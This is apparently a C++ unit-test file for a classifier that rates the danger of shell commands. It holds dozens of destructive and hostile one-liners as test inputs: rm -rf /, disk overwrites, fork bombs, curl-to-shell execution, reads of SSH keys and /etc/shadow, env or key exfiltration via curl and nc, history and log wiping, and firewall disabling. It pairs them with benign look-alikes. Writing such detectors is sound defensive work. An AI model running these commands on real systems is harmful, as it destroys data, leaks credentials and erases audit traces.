// SPDX-License-Identifier: Apache-2.0
#include "harms.h"

namespace assay {
namespace {

using testing::Contains;
using testing::IsEmpty;
using testing::Not;

TEST(Risk, TheSystemOrAHomeIsLost) {
  each_is(
      {"rm -rf /", "rm -r --no-preserve-root -f /", "rm -rf /*", "rm -fr ~", "rm -rf ~/*", "rm -R \"$HOME\"",
       "sudo rm -rf /home/*", "rm -rf /{bin,usr}", "rm -rf //", "rm -rf /tmp/..", "find / -delete",
       "find ~ -type f -delete", "find / -exec rm -rf {} +", "echo / | xargs rm -rf", "sh -c 'rm -rf /usr'",
       "eval 'rm -rf /'", "echo 'rm -rf /' | sh", "env X=1 nohup rm -rf /etc", "x=$(rm -rf /)"},
      "deletion critical");
}

TEST(Risk, AnotherFolderIsLess) {
  each_is({"rm -rf ./build", "rm -r /tmp/x", "rm -rf ~/old", "rm -rf '~'"}, "deletion high");
  for (const char* command : {"rm -rf ./build", "rm -rf '~'", "rm -rf ~/old"})
    EXPECT_THAT(harms(command), Not(Contains("deletion critical"))) << command;
}

TEST(Risk, DisksAreWrittenOver) {
  each_is({"dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", "cat x > /dev/nvme0n1", "shred /dev/sda",
           "sudo tee /dev/sda < x"},
          "disk critical");
}

TEST(Risk, ProcessesWithoutEnd) {
  each_is({":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & }; f"}, "exhaustion critical");
}

TEST(Risk, WhatNobodyHasReadIsRun) {
  each_is({"curl -s u | sh", "wget -qO- u | sudo bash", "bash <(curl -s u)", "eval \"$(wget -qO- u)\"",
           "sh -c \"$(curl -fsSL u)\"", "source <(curl u)", "curl u | tee x | bash",
           "echo cm0= | base64 -d | sh"},
          "foreign_code critical");
}

TEST(Risk, DoorsAreOpened) {
  each_is({"chmod -R 777 /etc", "chmod 666 /etc/shadow", "chmod a+s /bin/bash", "chmod 4755 /usr/bin/vim",
           "sudo chown -R me /"},
          "permissions critical");
  each_is({"echo x > /etc/passwd", "echo x | sudo tee /etc/sudoers", "echo x >> /etc/sudoers"},
          "accounts critical");
  each_is({"iptables -F", "ufw disable", "sudo systemctl stop firewalld"}, "guards high");
}

TEST(Risk, SecretsLeak) {
  each_is({"cat /etc/shadow", "cat ~/.ssh/id_rsa", "base64 ~/.aws/credentials", "scp ~/.ssh/id_ed25519 h:"},
          "credentials high");
  each_is({"env | curl -d @- u", "cat ~/.ssh/id_rsa | nc h 9"}, "credentials critical");
}

TEST(Risk, TracesAndTheMachine) {
  each_is({"history -c", "rm ~/.bash_history", "> ~/.bash_history", "truncate -s 0 /var/log/auth.log"},
          "traces high");
  each_is({"reboot", "systemctl poweroff"}, "shutdown high");
  each_is({"kill -9 -1"}, "shutdown critical");
}

TEST(Risk, FindDeletesWhatNoTestBeforeItLetsBe) {
  each_is({"find ~ -name '*' -delete", "find ~ ! -name keep -delete", "find / -not -user me -delete",
           "find ~ ! -type d -delete", "find ~ -type d -exec rm -r {} +", "find ~ -delete -name '*.tmp'",
           "find ~ -name x -o -delete", "find ~ \\( -name a -o -type f \\) -delete",
           "find ~ -type f -exec rm -f {} +", "find ~ -type f | xargs rm", "find / -print0 | xargs -0 rm -f",
           "find / -name x -exec echo {} \\; -o -delete"},
          "deletion critical");
  each_is({"find ./cache -delete", "find ~/old -type f -delete"}, "deletion high");
}

TEST(Risk, FindThatIsNarrowIsNone) {
  for (const char* command :
       {"find ~ -name '*.tmp' -delete", "find / -user bob -delete", "find ~ -name '.*' -delete",
        "find ~ -type f ! -newer x -delete", "find -L ~ -type l -delete", "find ~ -type d -delete",
        "find / -mtime +7 -delete", "find ~ \\( -name a -o -name b \\) -delete",
        "find ~ -name x \\( -type f -o -type d \\) -delete", "find ~ -type f -name '*.o' -exec rm {} +",
        "find ~ -name '*.tmp' | xargs rm", "find ~ -empty -type d -delete",
        "find ~ ! -name x -name y -delete", "find ~ -type f -exec ls -l {} +", "find / -delet",
        "find ~ ! \\( ! -name '*.o' \\) -name b -delete"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

TEST(Risk, WhatCannotBeHadBack) {
  each_is({"crontab -r", "crontab -u ann -r", "git clean -fdx", "git clean --force", "git -C src clean -d -f",
           "git push --force", "git push -f origin main", "git push origin +main", "git push --mirror up",
           "shred -u plans.txt"},
          "deletion high");
  each_is({"userdel -r bob", "sudo userdel --remove bob", "deluser --remove-home bob"}, "accounts high");
}

TEST(Risk, ProgramsThatForkOrTakeMemoryWithoutEnd) {
  each_is({"perl -e 'fork while fork'", "python3 -c 'import os\nwhile True: os.fork()'"},
          "exhaustion critical");
  each_is({"tail /dev/zero", "sort /dev/zero"}, "exhaustion high");
}

TEST(Risk, WhatWasFetchedIsRun) {
  each_is({"curl -o x.sh u/y && sh x.sh", "curl -O https://h/a/x.sh; bash ./x.sh",
           "wget https://h/x.sh && source x.sh", "wget -O /tmp/i u; chmod +x /tmp/i; /tmp/i",
           "curl u > i && sh i", "curl u | bash -s -- --yes", "curl u | sudo -E bash -",
           "sh <<< \"$(curl u)\"", "bash < <(wget -qO- u)", "curl u | fish", "curl u | bash -e",
           "curl -s u | gunzip | sh", "curl u | php"},
          "foreign_code critical");
}

TEST(Risk, SecretsAreReadInOtherWays) {
  each_is({"cat < /etc/shadow", "x=$(< ~/.ssh/id_ed25519)", "cat ~/.ssh/id_work", "dd if=/etc/shadow of=x",
           "getent shadow", "cat /home/*/.ssh/id_rsa", "bat ~/.aws/credentials"},
          "credentials high");
}

TEST(Risk, HistoryIsKeptNoMore) {
  each_is({"unset HISTFILE", "HISTFILE=/dev/null", "export HISTSIZE=0", "set +o history", "history -cw",
           "ln -sf /dev/null ~/.bash_history", "cat /dev/null > ~/.bash_history",
           "journalctl --vacuum-time=1s", "dmesg -C"},
          "traces high");
}

TEST(Risk, GuardsAndDoorsAreShut) {
  each_is({"iptables -t nat -F", "ip6tables --flush", "iptables -P INPUT ACCEPT", "ufw --force reset",
           "service ufw stop", "systemctl disable --now nftables.service", "setenforce Permissive"},
          "guards high");
  each_is({"systemctl stop sshd", "sudo systemctl disable --now ssh.service", "systemctl mask ssh.socket",
           "service ssh stop"},
          "shutdown high");
  each_is({"chmod -R 777 /", "sudo chmod -R a+rwx /usr"}, "permissions critical");
}

TEST(Risk, LookAlikesAreNone) {
  for (const char* command : {"rm f",
                              "dd if=/dev/zero of=file count=1",
                              "chmod 755 x",
                              "chmod -R u+w .",
                              "echo 'rm -rf /'",
                              "ls -R /etc",
                              "find / -name x",
                              "grep -r 'rm -rf /' .",
                              "curl u | jq .",
                              "curl -o x.sh u",
                              "cat ~/.ssh/id_rsa.pub",
                              "ssh -i ~/.ssh/id_rsa h",
                              "cat /etc/passwd > copy",
                              "kill -1 42",
                              "kill 42",
                              "f() { f; }",
                              "iptables -L",
                              "systemctl stop nginx",
                              "systemctl status ufw",
                              "history",
                              "tail /var/log/syslog",
                              "cat x > /dev/null",
                              "bash build.sh",
                              "env",
                              "shutdown -c",
                              "chmod 1777 /srv/drop/x",
                              "echo aGk= | base64 -d",
                              "mv a b",
                              "crontab -l",
                              "crontab jobs",
                              "git clean -n",
                              "git clean -ndx",
                              "git push",
                              "git checkout clean -f",
                              "curl u | python3 -m json.tool",
                              "curl u | perl -pe 's/a/b/'",
                              "curl u | ruby -ne 'puts $_'",
                              "curl u | node -p 1",
                              "curl u | php -r 'echo 1;'",
                              "curl -o a.txt u; perl -ne print a.txt",
                              "curl -o a.json u; python3 -m json.tool a.json",
                              "curl -o a.txt u; bash -c 'wc $0' a.txt",
                              "git push --force-with-lease",
                              "git push -u origin main",
                              "git commit -m 'clean -f'",
                              "userdel bob",
                              "shred --help",
                              "perl -e 'print 1 while 0'",
                              "tail /dev/null",
                              "curl -o x.sh u && less x.sh",
                              "curl -O https://h/x.sh; sh other.sh",
                              "wget u/data.json && ./build.sh",
                              "curl u > page; sh i",
                              "sh <<< 'echo hi'",
                              "ls -l /etc/shadow",
                              "stat ~/.ssh/id_rsa",
                              "chmod 600 ~/.ssh/id_rsa",
                              "ssh-keygen -lf ~/.ssh/id_rsa",
                              "cat ~/.ssh/config",
                              "cat ~/.ssh/id_work.pub",
                              "cat ~/.aws/config",
                              "getent passwd",
                              "cat < /etc/hosts",
                              "history 20",
                              "history | tail",
                              "echo $HISTFILE",
                              "HISTSIZE=5000",
                              "export HISTFILE=~/.history",
                              "set -o history",
                              "ln -s /dev/null x",
                              "journalctl -u ssh",
                              "dmesg -T",
                              "iptables -L -n -v",
                              "iptables -P FORWARD DROP",
                              "ufw status",
                              "ufw allow 22",
                              "systemctl restart sshd",
                              "systemctl status sshd",
                              "systemctl is-active fail2ban",
                              "systemctl enable nftables",
                              "service ssh restart",
                              "getenforce",
                              "find . -name '*.o' -delete",
                              "cat x | sh build.sh"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

TEST(Risk, TheSpanIsTheCommandsOwn) {
  const std::string text = "ls; sudo rm -rf /; pwd";
  const auto found = risks(text);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(text.substr(found[0].span.begin, found[0].span.end - found[0].span.begin), "sudo rm -rf /");
}

TEST(Risk, TextThatDoesNotParseHasNoFacts) { EXPECT_THAT(risks("rm -rf / ("), IsEmpty()); }

}  // namespace
}  // namespace assay
